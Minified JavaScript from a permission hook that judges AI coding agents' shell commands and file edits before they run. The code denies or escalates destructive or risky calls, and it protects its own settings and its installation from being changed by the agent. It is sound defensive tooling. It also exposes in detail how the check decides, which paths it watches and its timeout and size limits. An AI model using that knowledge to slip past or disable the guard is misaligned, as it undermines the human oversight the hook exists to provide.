0||!s.every(Ds))throw new ke('"edits" is no list of edits');return s.map(n=>Ke({...n,file_path:r},e,og))}var qS=/^\*\*\* (Add File|Update File|Delete File|Move to): (.+)$/,OS=/^\*\*\* (Begin Patch|End Patch|End of File)$/,NS=/^\*{3}|^\s*\*{3}\s*[a-z]/i,LS=/^[\s\u0085]+|[\s\u0085]+$/g;
function js(t,e){let s=[],r,n=()=>{let o=s.at(-1);r&&o&&"write"in o&&(o.content=`${r.join(`
`)}
`),r=void 0};for(let o of t.split(/\r?\n/)){let i=o.replace(LS,""),[,a,l]=qS.exec(i)??[];if(a===void 0||l===void 0){if(o.startsWith("+"))r?.push(o.slice(1));else if(NS.
test(o)&&!OS.test(i))throw new ke(`the line "${i.slice(0,60)}" of the patch is not understood`);continue}n();let c=Zt(e,l.trim());a==="Delete File"?s.push({command:`\
rm -f -- ${Kn(c)}`}):s.push({write:c}),a==="Add File"&&(r=[])}if(n(),s.length===0)throw new ke("the patch names no file");return s}var ag={can_ask:!1,readCall(t){Jt(t,"PreToolUse");let e=Pe(t,"cwd");return{folder:e,requests:DS(ge(t,"tool_name"),Xt(t,"tool_input"),e)}},formatAnswer({decision:t,
message:e}){return t!=="none"?rd("deny",e):e===""?Yt:ze({systemMessage:e})},formatRefusal:Qt};function DS(t,e,s){switch(_t(t)){case"bash":case"shell":case"local\
_shell":case"exec_command":return[Ge(jS(e),ig(e,s))];case"apply_patch":return js(ge(e,"command","input","patch"),ig(e,s));default:return $t(e,s)}}function ig(t,e){
let s=Pe(t,"workdir");return s===void 0||s===""?e:Zt(e,s)}function jS(t){let{command:e}=t;if(!Array.isArray(e))return ge(t,"command","cmd");let s=sd(e);if(s===void 0)
throw new ke('"command" is no list of words');return s}var cg={can_ask:!0,project_variable:"COPILOT_PROJECT_DIR",readCall(t){let e=Pe(t,"cwd"),s=ge(t,"toolName");return{folder:e,requests:WS(s,t.toolArgs,e)}},formatAnswer({
decision:t,message:e}){return t==="none"?Ls(Yt,e):ze({permissionDecision:t,permissionDecisionReason:e})},formatRefusal:t=>Ls(ze({permissionDecision:"deny",permissionDecisionReason:t}),
t)};function WS(t,e,s){switch(_t(t)){case"bash":case"powershell":case"local_shell":return[Ge(ge(kr(e),"command"),s)];case"write_bash":case"write_powershell":{let r=Pe(
kr(e),"input")??"";return r.trim()===""?[]:[Ge(r,s)]}case"create":return[Ke(kr(e),s,{path:["path"],content:["file_text"]})];case"edit":case"str_replace":case"in\
sert":return[Ke(kr(e),s,lg)];case"str_replace_editor":{let r=kr(e);return r.command==="view"?[]:[Ke(r,s,lg)]}case"apply_patch":return js(MS(e),s);default:return Ds(
e)||dg(e)?$t(kr(e),s):[]}}var lg={path:["path"],content:["new_str","file_text","insert_text"],replaces:["old_str"]};function kr(t){if(typeof t=="string")return ra(
Buffer.from(t));if(!Ds(t))throw new ke('"toolArgs" is no object');return t}var MS=t=>typeof t=="string"&&!dg(t)?t:ge(kr(t),"input","patch"),dg=t=>typeof t=="str\
ing"&&t.trimStart().startsWith("{");var fg={can_ask:!1,project_variable:"CURSOR_PROJECT_DIR",readCall(t){let e=Jt(t,"beforeShellExecution","preToolUse"),[s]=Array.isArray(t.workspace_roots)?t.workspace_roots:
[],r=typeof s=="string"?s:void 0,n=Pe(t,"cwd")||r,o=e==="preToolUse"?FS(ge(t,"tool_name"),Xt(t,"tool_input"),n):[Ge(ge(t,"command"),n)];return{folder:n,project:r,
requests:o}},formatAnswer:({decision:t,message:e})=>t==="none"?Ls(ze({}),e):ug(e),formatRefusal:t=>({...Ls(ug(t),t),exit_code:2})},ug=t=>ze({permission:"deny",user_message:t,
agent_message:t});function FS(t,e,s){switch(_t(t)){case"shell":return[Ge(ge(e,"command"),Pe(e,"working_directory")||s)];case"write":case"edit":case"multiedit":case"\
strreplace":case"notebookedit":return[Ke(e,s,pg)];case"delete":{let r=ge(e,...pg.path);return[Ge(`rm -f -- ${Kn(r)}`,s)]}default:return $t(e,s)}}var pg={path:["\
file_path","path","target_file","notebook_path","target_notebook"],content:["content","contents","new_string","file_text"],replaces:["old_string"]};var mg={can_ask:!0,project_variable:"GEMINI_PROJECT_DIR",readCall(t){Jt(t,"BeforeTool");let e=Pe(t,"cwd");return{folder:e,requests:US(ge(t,"tool_name"),Xt(t,"to\
ol_input"),e)}},formatAnswer({decision:t,message:e}){return t==="deny"?ze({decision:t,reason:e}):t==="ask"?ze({decision:t,reason:e,systemMessage:e}):e===""?Yt:ze(
{systemMessage:e})},formatRefusal:Qt};function US(t,e,s){switch(_t(t)){case"run_shell_command":{let r=Pe(e,"dir_path","directory"),n=r===void 0?s:Zt(s,r);return[
Ge(ge(e,"command"),n)]}case"write_file":return[Ke(e,s,{path:["file_path"],content:["content"]})];case"replace":case"edit":return[Ke(e,s,{path:["file_path"],content:[
"new_string"],replaces:["old_string"]})];default:return $t(e,s)}}var hg={can_ask:!1,readCall(t){Jt(t,"tool.execute.before");let e=Pe(t,"directory"),s=ge(t,"tool"),r=Pe(t,"worktree");return{folder:e,project:r==="/"?e:r,requests:VS(
s,Xt(t,"args"),e)}},formatAnswer({decision:t,message:e}){return t==="none"?Ls(Yt,e):ze({deny:e})},formatRefusal:Qt};function VS(t,e,s){switch(_t(t)){case"bash":{
let r=Pe(e,"workdir"),n=r===void 0?s:Zt(s,r);return[Ge(ge(e,"command"),n)]}case"write":return[Ke(e,s,{path:["filePath"],content:["content"]})];case"edit":case"m\
ultiedit":return[Ke(e,s,{path:["filePath"],content:["newString"],replaces:["oldString"]})];case"patch":case"apply_patch":return js(ge(e,"patchText","patch","inp\
ut"),s);default:return $t(e,s)}}var es={"claude-code":ng,codex:ag,gemini:mg,copilot:cg,opencode:hg,cursor:fg},gg=Object.keys(es),nd=t=>t!==void 0&&Object.hasOwn(es,t);Ct();fr();var oa=require("node:path");var na=require("node:path");var bg={rm:"all",unlink:"all",rmdir:"all",mkdir:"all",patch:"all",shred:"all",truncate:"all",touch:"all",tee:"all",mv:"all",cp:"last",install:"last",ln:"last",rsync:"\
last",chmod:"all-but-first",chown:"all-but-first",chgrp:"all-but-first",sed:"in-place",perl:"in-place",ruby:"in-place",dd:"dd",git:"git",tar:"unpack",unzip:"unp\
ack"},HS=new Set(["rm","mv","checkout","restore"]),BS=new Set(["-C","--directory","-d"]),zS=new Set(["rm","mv","chmod","chown","chgrp","cp","rsync","shred","git",
"find"]),GS=5e3;function od(t,e){return t.flatMap(s=>KS(s,t,e)).slice(0,GS)}function KS(t,e,s){let r=t.folder&&Ie(t.folder)?na.posix.resolve(s,t.folder.text):s,
n=(c,d)=>{if(!Ie(c)||c.text.startsWith("~"))return[];let u=na.posix.relative(s,na.posix.resolve(r,c.text));return u===".."||u.startsWith("../")?[]:[{path:u,below:d,
glob:c.glob}]},o=t.redirects.filter(({kind:c})=>c!=="read").flatMap(({path:c})=>n(c,!1)),i=zS.has(t.program),a=dr(t,e),l=[...QS({program:t.program,args:a}),...YS(
{program:t.program,args:a})];return[...o,...l.flatMap(c=>n(c,i))]}function YS({program:t,args:e}){if(t==="find")return di(e);let{writes:s,deletes:r,moves:n,changes:o}=An(
t,$e(t,e));return[...s,...r,...n,...o]}function QS({program:t,args:e}){let s=Object.hasOwn(bg,t)?bg[t]:void 0,r=e.findIndex(({text:o})=>o==="--"),n=e.filter(({text:o},i)=>r>=
0&&i>r||!o.startsWith("-"));switch(s){case void 0:return[];case"all":return n;case"last":{let o=e.findIndex(({text:i})=>i==="-t"||i==="--target-directory");return o>=
0?e.slice(o+1,o+2):n.slice(-1)}case"all-but-first":return n.slice(1);case"in-place":return e.some(({text:o})=>/^(-[a-zA-Z]*i|--in-place)/.test(o))?n:[];case"dd":
return e.filter(({text:o})=>o.startsWith("of=")).map(o=>({...o,text:o.text.slice(3)}));case"git":return HS.has(n[0]?.text??"")?n.slice(1):[];case"unpack":return e.
filter((o,i)=>BS.has(e[i-1]?.text??""));default:return s}}var Ws=".gatebench/guard.yml",id=(t="strict")=>({level:t,rules:ta,allow:new Set,ignored:new Set,deny:new Set,files:[]}),yg=(t,e)=>t==="strict"?t:e??t??"strict";var XS=[Ws,".claude/settings.json",".claude/settings.local.json",".codex/hooks.json",".codex/config.toml",".gemini/settings.json",".cursor/hooks.json",".github/\
hooks/gatebench-guard.json",".copilot/hooks/gatebench-guard.json",".opencode/plugins/gatebench-guard.js",".config/opencode/plugins/gatebench-guard.js"].map(t=>t.
split("/")),JS=new Set([".github",".config"]);function xg(t,{folder:e,home:s},r,n){if("write"in t)return wg(oa.posix.resolve("/",t.write),r,{});if(!("command"in
t))return;if(n.some(s1))return"gatebench guard";let o=n.map(l=>o1(l,t.folder??e??"/",s)),i=od(o.filter(r1),"/").map(({path:l})=>l),a=o.some(({program:l,wrappers:c})=>[
l,...c].some(d=>ZS.has(d)));for(let{path:l,below:c,glob:d}of od(o,"/")){let u=wg(`/${l}`,r,{below:c,glob:d,copied:i.includes(l),deep:d&&a});if(u!==void 0)return u}}
function $g({folder:t},e,s){if(!t)return e;let r=Sg(t.text,s);if(!(r.includes("\uFFFC")||r.startsWith("~")))return oa.posix.resolve(e??"/",r)}var ZS=new Set(["f\
ind","fd","fdfind"]),_g=new Set(["npm","pnpm","yarn","bun"]),e1=new Set([..._g,"gatebench","npx","pnpx","bunx","node","deno"]),t1=new Set(["uninstall","un","unl\
ink","remove","rm","r"]);function s1({program:t,path:e,args:s}){let r=s.map(({text:a})=>a.toLowerCase()),n=t.toLowerCase().replace(/\.(exe|cmd|ps1)$/,"");if(_g.
has(n)&&r.some(a=>t1.has(a))&&r.some(a=>/^(@[^/]+\/)?gatebench(@|$)/.test(a)))return!0;let o=r.indexOf("guard");return o!==-1&&r.slice(o).some(a=>a==="install"||
a==="uninstall")&&(e1.has(n)||e.toLowerCase().includes("gatebench"))}var r1=({program:t,args:e})=>t==="cp"&&!e.some(({text:s})=>/^-[a-z]*[rRa]|^--(recursive|archive)/.
test(s));function wg(t,e,{below:s,glob:r,copied:n,deep:o}){let i=kg(t),a=i.map(m=>vg(m,r===!0)),l=(m,h)=>a.slice(h,h+m.length).every((g,y)=>g(m[y])),c=s===!0||r===
!0,d=i.findIndex(m=>/[*?[]/.test(m)),u=o===!0&&d!==-1?d:Number.POSITIVE_INFINITY,p=i.at(-1)??"",f=vg(p,!0,!0);for(let m of e){let h=kg(m),g=c&&n!==!0&&i.length<
h.length&&l(h.slice(0,i.length),0),y=u<h.length&&l(h.slice(0,u),0)&&f(h.at(-1));if(g||y||i.length>=h.length&&l(h,0))return m}for(let m of XS){let h=m.join("/");
if(i.length>=m.length&&l(m,i.length-m.length)||u<i.length&&!/^\*+(\.\w+)?$/.test(p)&&f(m.at(-1)))return h;for(let y=1;y<m.length;y+=1){let x=m.slice(0,y);if(JS.
has(x.at(-1)))continue;if((x[0]===".gatebench"||c)&&i.length>=y&&l(x,i.length-y)||u>=y&&u<i.length&&l(x,u-y)&&f(m.at(-1)))return h}}}var kg=t=>t.toLowerCase().split(
"/").filter(e=>e!=="");function vg(t,e,s=!1){if(!e||!/[*?[]/.test(t))return o=>o===t;let r=t.split(/(\*+|\?|\[[^\]]*\])/).map(o=>/^\*+$/.test(o)?".*":o==="?"||o.
startsWith("[")?".":o.replace(/[\\^$.*+?()[\]{}|]/g,"\\$&"));if(r.length>n1)return()=>!0;let n=new RegExp(`^${r.join("")}$`,"s");return o=>(s||!o.startsWith(".")||
!/^[*?]/.test(t))&&n.test(o)}var n1=16,Sg=(t,e)=>e===void 0?t:t.replace(/^(~|\$HOME|\$\{HOME\})(?=\/|$)/,()=>e);function o1(t,e,s){let r=o=>{let i=Sg(o.text,s);
return i===o.text?o:{...o,text:i}},n=t.folder&&r(t.folder).text;return{...t,args:t.args.map(r),redirects:t.redirects.map(o=>({...o,path:r(o.path)})),folder:{text:n===
void 0?e:oa.posix.resolve(e,n),glob:!1}}}var i1=500,a1=2,Cg={deny:0,ask:1,none:2};function Ag({folder:t,requests:e},s,{top:r,home:n,own_files:o,variables:i,isLate:a}){let l={trust:a1,workspace:r,level:s.
level},c=Ns(c1(s)),d=s.allow.size>0?Ns(s.rules):void 0,u=[...s.files,...o];Eg(e.length);let p=e.flatMap(u1(c,{folder:t,home:n}));return Eg(p.length),p.flatMap(m=>{
if(a())throw new ke("judging it takes too long");let h="command"in m?l1(c,m,i):[];return[f1(m,{guard:c,plain:d,principal:l,settings:s}),...h1(m,h,{folder:t,home:n,
files:u})]}).reduce((m,h)=>m&&Cg[m.decision]<=Cg[h.decision]?m:h,void 0)}function Eg(t){if(t>i1)throw new ke("too many edits in one call")}function l1(t,{command:e,
folder:s},r){let n=e.replace(/\$(?:(\w+)|\{(\w+)\})/g,(i,a,l)=>{let c=r.get(a??l);return c!==void 0&&/^[\w./@+-]+$/.test(c)?c:i}),{invocations:o}=t.parse(e,s);return n===
e?o:[...o,...t.parse(n,s).invocations]}function c1({rules:t,allow:e,deny:s}){return e.size===0&&s.size===0?t:t.filter(({id:r,severity:n})=>n==="catastrophic"||!e.
has(r)).map(r=>s.has(r.id)?d1(r):r)}function d1({trust:t,...e}){let{level:s,match:r,...n}=e,o=r?.map(i=>{let{level:a,...l}=i;return l});return{...n,..._e({match:o})}}
var u1=(t,{folder:e,home:s})=>r=>{if(!("command"in r))return[r];let n=t.parse(r.command,r.folder).invocations.flatMap(o=>{let{program:i,input:a,args:l}=o;if(i!==
"apply_patch"&&i!=="applypatch")return[];let c=a?.kind==="text"?a.text:l[0]?.text??"";if(!c.includes("*** Begin Patch"))return[];let d=$g(o,r.folder??e,s);if(d===
void 0)throw new ke("the folder of the patch is unknown");return js(c,d)});return[r,...n]},p1=`${Ws} would allow it, which counts after "gatebench guard install\
 CLIENT --trust-project-settings"`;function f1(t,{guard:e,plain:s,principal:r,settings:n}){let o=e.judge(t,r);if(o.verdict==="deny"){let l=n.deny.has(o.rule),c=n.
ignored.has(o.rule)?`; ${p1}`:"",d=l?`; denied by ${Ws}`:c,u=`${o.reason} (gatebench guard: ${o.rule}${d})`;return{decision:l?"deny":m1(o),rule:o.rule,message:u,
request:t}}let i=s?.judge(t,r);if(i?.verdict!=="deny")return{decision:"none",rule:"",message:"",request:t};let a=`gatebench guard: ${i.rule} is allowed by ${Ws}`;
return{decision:"none",rule:i.rule,message:a,request:t}}function m1({severity:t,category:e}){return e==="unreadable"||e==="unparsed"?"ask":Mt[t]<=Mt.severe?"den\
y":"ask"}function h1(t,e,{folder:s,home:r,files:n}){let o=xg(t,{folder:s,home:r},n,e);return o===void 0?[]:[{decision:"ask",rule:"guard-settings",message:`${`${o}\
 decides what this agent may do. Ask the person to change it.`} (gatebench guard: guard-settings)`,request:t}]}var Yn=4*1024*1024;function Tg(t,e){if(e.length>Yn)throw new ke(`the input is larger than ${Yn} bytes`);return es[t].readCall(ra(e))}function Pg(t,e,s){let r=es[t],
{settings:n,...o}=s,i=Ag(e,n,o);if(!i)return{output:ad(t)};let a=i.decision==="ask"&&!r.can_ask?"deny":i.decision,l=wr(i.message);return{output:r.formatAnswer({
decision:a,message:l}),judgement:{...i,decision:a}}}var ad=t=>es[t].formatAnswer({decision:"none",message:""}),Rg=(t,e)=>es[t].formatRefusal(wr(`gatebench guard\
: the call was not judged, so it is refused: ${e}`));var AP=async()=>(await(await __import("../engine/index.js")).bundle.engine.guard()).hookParts,Eo={settings:()=>Promise.resolve().then(()=>(Sw(),_w)),rules:async()=>(await AP()).
rules(),log:()=>Promise.resolve().then(()=>(fk(),pk))};var Ao=require("node:fs"),rs=require("node:path");tn();var nl=require("node:fs"),IU=16*2**20,qU=256*2**20;function mk(t,e=Number.POSITIVE_INFINITY){let s=(0,nl.statSync)(t);if(!s.isFile())throw Object.assign(new Error(
`${t} is not a file`),{code:"not a file"});if(s.size>e){let r=`larger than ${e/1048576} MiB`;throw Object.assign(new Error(`${t} is ${r}`),{code:r})}return(0,nl.readFileSync)(
t)}var TP=64*1024;function hk(t,e){let s=gk(t),r=s.findIndex(l=>(0,Ao.existsSync)((0,rs.join)(l,".git"))),n=r===-1?void 0:s[r],o=n!==void 0&&(e===void 0||!PP(e,n)),
a=(o?s.slice(0,r+1):[t]).map(l=>(0,rs.join)(l,Ws)).find(l=>(0,Ao.existsSync)(l));return{top:o?n:t,guard_file:a}}function gk(t){let e=(0,rs.dirname)(t);return e===
t?[t]:[t,...gk(e)]}var PP=(t,e)=>t===e||t.startsWith(e.endsWith("/")?e:`${e}/`);async function bk({top:t,guard_file:e},{level:s,trusted:r}){if(e===void 0)return id(
s);let n=(0,rs.relative)(t,e),o=IP(e,n),{readGuardFile:i,checkGuardFile:a}=await Eo.settings(),l=i(o,n),c=(0,rs.dirname)(e),d=l.rules.map(({name:f})=>(0,rs.join)(
c,f)),u=d.length===0?id().rules:await RP(d,t);a(l,u);let p=l.allow.map(({name:f})=>f);return{level:yg(s,r||l.level==="strict"?l.level:void 0),rules:u,allow:new Set(
r?p:[]),ignored:new Set(r?[]:p),deny:new Set(l.deny.map(({name:f})=>f)),files:[e,...d].flatMap(f=>[f,(0,Ao.realpathSync)(f)])}}async function RP(t,e){let{combineRules:s,
readRulesFile:r}=await Eo.rules();return s(t.map(n=>r((0,rs.relative)(e,n),e)))}function IP(t,e){try{return mk(t,TP).toString("utf8")}catch(s){throw new st(`${e}\
: cannot be read (${s.code})`)}}var qP=5e3;async function OP(t,e){let s;try{s=MP(t)}catch(r){let n=t.find((i,a)=>t[a-1]==="--hook"),o=`gatebench guard: ${kk(r)}`;return nd(n)?es[n].formatRefusal(
o):Qt(o)}try{let{output:r,judgement:n}=await NP(s,e),o=n&&await yk(s,e,n);return o===void 0?r:wk(r,o)}catch(r){let n=kk(r),o=await yk(s,e,{decision:"error",rule:"",
request:{text:n}}),i=Rg(s.client,n);return o===void 0?i:wk(i,o)}}async function NP({client:t,level:e,trusted:s},r){let n=r.now().getTime(),o=Tg(t,await DP(r.input));
if(o.requests.length===0)return{output:ad(t)};let{project_variable:i}=es[t],a=r.variable("HOME"),l=i&&r.variable(i)||o.project||r.cwd,c=hk(l,a),d=o.folder??l,u=()=>r.
now().getTime()-n>qP,p={settings:await bk(c,{level:e,trusted:s}),top:c.top,home:a,...LP(r,a),isLate:u};return Pg(t,{...o,folder:d},p)}function LP({variable:t,program_folders:e=[]},s){
let r=["CLAUDE_CONFIG_DIR","CODEX_HOME","XDG_CONFIG_HOME","XDG_CACHE_HOME"],n=new Map(r.map(a=>[a,t(a)??""])),o=(a,...l)=>{let c=n.get(a);return c===void 0||!(0,To.isAbsolute)(
c)?[]:l.map(d=>(0,To.join)(c,d))};return{own_files:[...e,...o("CLAUDE_CONFIG_DIR","settings.json","settings.local.json"),...o("CODEX_HOME","hooks.json","config.\
toml"),...o("XDG_CONFIG_HOME","opencode/plugins/gatebench-guard.js"),...o("XDG_CACHE_HOME","gatebench-code"),...s===void 0?[]:[(0,To.join)(s,".cache/gatebench-c\
ode")]],variables:n}}async function DP(t){let e=[],s=0;for await(let r of t){let n=typeof r=="string"?Buffer.from(r):r;if(s+=n.length,s>Yn)throw new ke(`the inp\
ut is larger than ${Yn} bytes`);e.push(n)}return Buffer.concat(e)}async function yk({client:t,log:e},{now:s},{decision:r,rule:n,request:o}){if(e!==void 0)try{let{
appendLogLine:i}=await Eo.log(),a=r==="none"?"pass":r;i(e,{time:s(),client:t,verdict:a,rule:n,subject:jP(o)});return}catch(i){return`gatebench guard: the log ca\
nnot be written (${i.code??"error"})`}}function jP(t){return"command"in t?t.command:"write"in t?`write ${t.write}`:t.text}var wk=(t,e)=>({...t,stderr:`${t.stderr}${e}\

`}),kk=t=>t instanceof Error?t.message:String(t),vk="--project-settings",WP=["--hook","--level","--log"];function MP(t){let e=new Map,s=t.values();for(let i of s){
if(i===vk){e.set(i,i);continue}let[a,l]=FP(i);if(!WP.includes(a))throw new st(`unknown argument "${i}" beside --hook`);let c=l??s.next().value;if(c===void 0||c===
"")throw new st(`${a} has no value`);e.set(a,c)}let r=e.get("--hook");if(!nd(r))throw new st(`--hook must be one of ${gg.join(", ")}`);let n=e.get("--level"),o=pr.
find(i=>i===n);if(n!==void 0&&o===void 0)throw new st(`--level must be one of ${pr.join(", ")}`);return{client:r,level:o,trusted:e.has(vk),log:e.get("--log")}}function FP(t){
let e=t.startsWith("--")?t.indexOf("="):-1;return e===-1?[t,void 0]:[t.slice(0,e),t.slice(e+1)]}0&&(module.exports={CLOSED_CONTAINER,GuardrailSuite,NON_EMPTY_VALUE,OWN_CONTAINER,SEVERITY_ORDER,UNKNOWN_VALUE,UNREAD_VALUE,codeLanguages,compileLexicon,completeName,
concatenateWords,createGuard,createShellInvocation,createShippedGuard,createWord,createWords,findAffectedPaths,findDeletedPaths,findPhrases,getDeletedPatterns,getFeeders,
getFindPatterns,getGrammar,getObjectClass,guardLevels,hasFlag,hasUnreadValue,isKnownWord,isRemotePath,listOutputFiles,parseProgramArguments,pathClasses,pathEffects,
phraseRules,readCode,readCommand,replaceWithUnevaluated,replaceWithUnknown,resolveFoundPaths,runHook,shippedGuardRules,showsSign,vocabulary,writeLine});
